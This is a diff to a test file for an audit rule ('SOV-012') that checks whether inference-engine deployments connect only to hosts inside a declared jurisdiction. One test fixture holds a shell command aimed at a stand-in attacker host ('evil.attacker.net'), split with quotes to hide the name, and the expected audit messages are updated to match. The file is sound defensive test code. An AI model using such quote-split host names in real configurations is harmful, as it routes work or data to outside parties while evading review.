@@ -123,7 +123,7 @@ describe('SOV-012 every endpoint inside the jurisdiction', () => {
         (c) => (c.command = ['/bin/sh', '-c', "exec vllm serve --master-addr ev''il.attacker.net"]),
       );
       expect(found.map((o) => o.message)).toEqual([
-        "--master-addr evil.attacker.net names evil.attacker.net, outside the jurisdiction's declared hosts and CIDRs: the process would join or send work there",
+        "--master-addr ev''il.attacker.net (evil.attacker.net) names evil.attacker.net, outside the jurisdiction's declared hosts and CIDRs: the process would join or send work there",
       ]);
     });
     test('a ConfigMap handed to the engine as its config file', () => {
@@ -403,7 +403,9 @@ describe('SOV-012 every endpoint inside the jurisdiction', () => {
           c.args = ['--master-addr', '$(SOMETHING_FROM_ENVFROM)'];
         }),
       ).toEqual([
-        'unknown args[1]: --master-addr $(SOMETHING_FROM_ENVFROM): the host comes from a variable the audit cannot follow (a Secret, a ConfigMap or a shell assignment)',
+        "unknown args[1]: --master-addr $(SOMETHING_FROM_ENVFROM): the host comes from a value the audit cannot follow (a Secret, a ConfigMap, a shell variable or a command's output)",
+        // Explicit `env` entries win over the source: it may set the other peer addresses only.
+        'unknown env_from[0]: container sync: ConfigMap elsewhere (not created by the stack) may set PET_MASTER_ADDR, PET_RDZV_ENDPOINT, PET_LOCAL_ADDR, VLLM_HOST_IP, VLLM_DP_MASTER_IP, VLLM_NIXL_SIDE_CHANNEL_HOST, VLLM_LOOPBACK_IP, LLAMA_ARG_RPC, which the audit cannot follow: a process would connect to the peer address it names',
         'unknown env[3].value_from: container sync: MASTER_ADDR (from Secret s key addr): the address comes from a value the audit cannot follow',
         'unknown env[4].value_from: container sync: RAY_ADDRESS (from ConfigMap elsewhere key addr): the address comes from a value the audit cannot follow',
         'unknown env[5].value: container sync: NCCL_COMM_ID: the address comes from a value the audit cannot follow',
